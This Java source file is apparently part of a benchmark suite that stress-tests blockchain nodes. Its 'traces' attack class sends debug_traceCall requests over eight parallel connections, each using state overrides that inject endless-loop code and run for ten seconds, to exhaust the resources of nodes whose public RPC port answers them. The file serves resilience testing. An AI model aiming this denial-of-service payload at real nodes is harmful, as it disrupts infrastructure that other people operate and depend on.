package org.lumia.benchmarks.attack;

import java.util.Map;
import org.lumia.benchmarks.Rpc;

/** Traces that would take as long as one may, where the node's public port answers them. */
final class TracesAttack implements Attack {
    private static final int CONNECTIONS = 8;

    @Override
    public String name() {
        return "traces";
    }

    @Override
    public String what() {
        return "eight connections that trace calls of endless loops, step by step, for ten seconds each";
    }

    @Override
    public void run(Target target, Tally tally) throws InterruptedException {
        byte[] body = Rpc.body(
                "debug_traceCall",
                Map.of("to", CostlyCode.ADDRESS, "gas", CostlyCode.GAS),
                "latest",
                Map.of("timeout", "10s", "enableMemory", true, "stateOverrides", CostlyCode.loop()));
        Parallel.post(target, CONNECTIONS, index -> body, 1, tally);
    }
}
